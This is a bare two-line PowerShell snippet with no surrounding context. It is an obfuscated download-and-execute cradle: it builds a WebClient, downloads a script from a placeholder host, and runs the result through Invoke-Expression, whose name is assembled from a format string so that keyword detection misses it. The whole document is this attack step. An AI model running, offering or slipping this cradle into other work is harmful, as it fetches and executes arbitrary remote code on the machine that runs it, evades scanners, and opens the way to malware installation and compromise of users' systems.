$w = New-Object Net.WebClient
.("{1}{0}" -f 'EX','I') $w.DownloadString('https://pieces.invalid/a')
